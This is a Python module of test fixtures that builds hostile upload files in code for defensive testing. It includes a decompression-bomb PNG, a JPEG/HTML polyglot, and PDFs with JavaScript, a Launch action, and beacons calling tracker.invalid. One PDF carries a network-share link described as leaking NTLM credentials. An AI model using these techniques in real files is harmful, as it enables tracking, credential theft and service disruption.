"""
Upload fixtures built in code: no binary files in the repository, every hostile trait visible here.

Everything describes fictional people and places; GPS positions point at the open sea.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

EXIF_ORIENTATION = 0x0112
EXIF_MAKE = 0x010F
EXIF_MODEL = 0x0110
EXIF_GPS_IFD = 0x8825
XMP_PACKET = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Vessa Orlune (fictional)"/>'
    b"</rdf:RDF></x:xmpmeta>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert('x')</script></body></html>"
EICAR_LIKE = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"  # the standard test string


def camera_exif(*, orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[EXIF_MAKE] = "Fictional Optics"
    exif[EXIF_MODEL] = "Model Nine"
    exif[EXIF_ORIENTATION] = orientation
    exif[EXIF_GPS_IFD] = {1: "N", 2: (0.0, 30.0, 0.0), 3: "W", 4: (25.0, 0.0, 0.0)}
    return exif


def jpeg_with_gps(*, width: int = 40, height: int = 20, orientation: int = 6) -> bytes:
    """A JPEG with GPS, camera make and model, XMP, an ICC profile and a rotation tag."""
    image = Image.new("RGB", (width, height), (200, 40, 40))
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(
        out,
        format="JPEG",
        exif=camera_exif(orientation=orientation),
        xmp=XMP_PACKET,
        icc_profile=srgb,
        comment=b"taken near the border crossing",
    )
    return out.getvalue()


def png_with_text(*, width: int = 16, height: int = 16) -> bytes:
    info = PngInfo()
    info.add_text("Author", "Vessa Orlune (fictional)")
    info.add_text("Location", "Safe house 3")
    out = io.BytesIO()
    Image.new("RGBA", (width, height), (0, 90, 200, 128)).save(
        out, format="PNG", pnginfo=info, exif=camera_exif()
    )
    return out.getvalue()


def webp_with_exif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (24, 24), (10, 120, 10)).save(
        out, format="WEBP", exif=camera_exif(), xmp=XMP_PACKET
    )
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))
        + kind
        + body
        + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def pixel_flood_png(side: int = 20_000) -> bytes:
    """A valid 1-bit PNG declaring side x side pixels, all black, that compresses to tens of KB."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_html_polyglot() -> bytes:
    """A JPEG carrying HTML both in a comment segment and after its end marker."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (255, 255, 255)).save(out, format="JPEG", comment=HTML_PAGE)
    return out.getvalue() + HTML_PAGE


def zip_archive(members: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in (members or {"statement.txt": b"fictional statement"}).items():
            archive.writestr(name, body)
    return out.getvalue()


def macro_word_document() -> bytes:
    """The skeleton of a .docm: an Office Open XML package with a VBA project inside."""
    return zip_archive(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
        }
    )


def windows_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"


def _pdf_bytes(pdf: pikepdf.Pdf, **save_options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save_options)
    return out.getvalue()


def pdf_with_author() -> bytes:
    """A one-page PDF with /Author, /Creator and an XMP packet naming a fictional person."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = "Vessa Orlune (fictional)"
    pdf.docinfo["/Creator"] = "Fictional Writer 3.1"
    pdf.Root.Metadata = pdf.make_stream(XMP_PACKET, Type=pikepdf.Name.Metadata)
    return _pdf_bytes(pdf)


def pdf_with_javascript() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')")
    return _pdf_bytes(pdf)


def pdf_with_launch_action() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    return _pdf_bytes(pdf)


TRACKING_HOST = "tracker.invalid"


def pdf_with_uri_open_action() -> bytes:
    """Opening the document fetches a URL on the sender's server."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=f"https://{TRACKING_HOST}/opened"
    )
    return _pdf_bytes(pdf)


def _pdf_with_link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> bytes:
    """Put a link annotation running ``action`` on the first page of ``pdf``."""
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
    return _pdf_bytes(pdf)


def pdf_with_remote_goto_link() -> bytes:
    """A link annotation that opens a file on a network share (leaks NTLM credentials on Windows)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    share = f"\\\\{TRACKING_HOST}\\share\\doc.pdf"
    return _pdf_with_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=share, D=[0]))


def pdf_with_page_open_uri_action() -> bytes:
    """A page's additional action (/AA /O) fetches a URL when the page is shown."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://{TRACKING_HOST}/page")
    )
    return _pdf_bytes(pdf)


def pdf_with_submit_form_action() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=f"https://{TRACKING_HOST}/submit"
    )
    return _pdf_bytes(pdf)


def pdf_with_internal_link() -> bytes:
    """A two-page PDF whose link jumps to its own second page: harmless, kept."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    target = [pdf.pages[1].obj, pikepdf.Name.Fit]
    return _pdf_with_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=target))


def pdf_with_embedded_file() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["payload.txt"] = pikepdf.AttachedFileSpec(pdf, b"fictional payload")
    return _pdf_bytes(pdf)


def pdf_with_password() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _pdf_bytes(pdf, encryption=pikepdf.Encryption(owner="owner-pass", user="user-pass"))
